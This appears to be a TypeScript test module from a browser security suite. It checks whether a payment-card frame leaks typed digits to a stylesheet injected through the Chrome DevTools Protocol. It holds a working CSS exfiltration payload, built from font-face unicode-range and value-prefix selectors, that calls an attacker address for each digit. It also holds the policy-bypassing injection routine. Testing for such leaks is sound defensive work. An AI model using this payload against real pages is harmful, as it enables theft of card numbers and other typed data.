import type { CDPSession, Frame, Page } from 'playwright'
import type { AttackPages } from '../attack-pages.ts'
import { BREACH, type Attack } from '../attack.ts'

/** Rules that request a file from the attacker for each digit that is shown, and for each that a value begins with. */
const canary = (address: string): string =>
  Array.from(
    { length: 10 },
    (_, digit) => `@font-face { font-family: leak; src: url(${address}/font-${digit}); unicode-range: U+3${digit} }
input[value^="${digit}"] { background: url(${address}/value-${digit}) !important }`,
  ).join('\n') + '\ninput { font-family: leak !important }'

/** Adds a style sheet to a document despite its policy, as browser extensions do. */
async function inject(page: Page, into: Frame | Page, text: string): Promise<CDPSession> {
  const session = await page.context().newCDPSession(into)
  const { frameTree } = await session.send('Page.getFrameTree')
  await session.send('DOM.enable')
  await session.send('CSS.enable')
  const { styleSheetId } = await session.send('CSS.createStyleSheet', { frameId: frameTree.frame.id })
  await session.send('CSS.setStyleSheetText', { styleSheetId, text })
  return session
}

/** Whether such a style sheet in a document reveals to the attacker what is typed there. */
export async function showsDigits(
  { hostile }: AttackPages,
  page: Page,
  into: Frame | Page,
  path: string,
): Promise<boolean> {
  const session = await inject(page, into, canary(hostile.unlisted + path))
  await into.evaluate(async () => {
    while (![...document.fonts].some(({ status }) => status === 'loaded' || status === 'error'))
      await new Promise(requestAnimationFrame)
  })
  await page.waitForTimeout(200)
  await session.detach()
  return hostile.received.some((line) => line.includes(path))
}

export const injectedStyle: Attack = {
  name: 'injected style',
  does: 'puts a style sheet into the frame, as an extension would, that asks for a file for each digit',
  async run(pages, { page }) {
    const frame = page.frames().find((one) => /\/card(?:\?|$)/.test(one.url()))!
    const isNotified = await showsDigits(pages, page, frame, '/styled')
    return isNotified ? [`${BREACH}the frame asked the attacker for files`] : []
  },
}
